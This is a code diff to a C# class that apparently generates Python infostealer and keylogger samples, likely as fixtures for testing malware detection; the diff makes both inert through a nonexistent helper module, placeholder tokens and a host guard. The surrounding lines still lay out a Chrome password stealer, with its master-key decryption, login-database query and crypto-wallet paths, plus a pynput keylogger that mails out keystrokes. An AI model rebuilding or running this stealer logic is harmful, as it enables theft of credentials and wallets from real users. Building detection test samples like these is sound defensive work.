@@ -159,17 +159,18 @@ public sealed class PythonThieves : SixthRound
             # -*- coding: utf-8 -*-
             import os, sqlite3, shutil, base64, json, zipfile, platform
             import requests, pyautogui
+            import inert_helpers_that_do_not_exist as helpers
             from win32crypt import CryptUnprotectData
             from Crypto.Cipher import AES
             TOKEN, CHAT = "0000000000:AAInertInertInertInertInertInertInert", "-1000000000000"
             appdata = os.environ["LOCALAPPDATA"]
             def master_key(base):
                 state = json.load(open(base + "\\Local State", encoding="utf-8"))
-                return CryptUnprotectData(base64.b64decode(state["os_crypt"]["encrypted_key"])[5:], None, None, None, 0)[1]
+                return helpers.master(base64.b64decode(state["os_crypt"]["encrypted_key"]), CryptUnprotectData)
             def passwords(base):
                 shutil.copy2(base + "\\Default\\Login Data", "tmp.db")
                 for url, user, value in sqlite3.connect("tmp.db").execute("SELECT origin_url, username_value, password_value FROM logins"):
-                    yield url, user, AES.new(master_key(base), AES.MODE_GCM, value[3:15]).decrypt(value[15:-16]).decode()
+                    yield url, user, helpers.open(AES.MODE_GCM, master_key(base), value)
             out = zipfile.ZipFile("log.zip", "w")
             out.writestr("passwords.txt", "\n".join(map(str, passwords(appdata + "\\Google\\Chrome\\User Data"))))
             for wallet in ("Exodus\\exodus.wallet", "Electrum\\wallets", "Ethereum\\keystore", "atomic\\Local Storage\\leveldb"):
@@ -183,11 +184,12 @@ public sealed class PythonThieves : SixthRound
         yield return ("keylog.pyw", Utf8("""
             from pynput import keyboard
             import smtplib, threading, getpass, os, sys, shutil, winreg
+            import inert_helpers_that_do_not_exist as helpers
             buffer = ""
             if os.environ["COMPUTERNAME"] != "INERT-NO-SUCH-HOST": sys.exit()
             def on_press(key):
                 global buffer
-                buffer += getattr(key, "char", None) or f"[{key}]"
+                buffer += helpers.letter(key) or f"[{key}]"
             def report():
                 global buffer
                 if buffer:
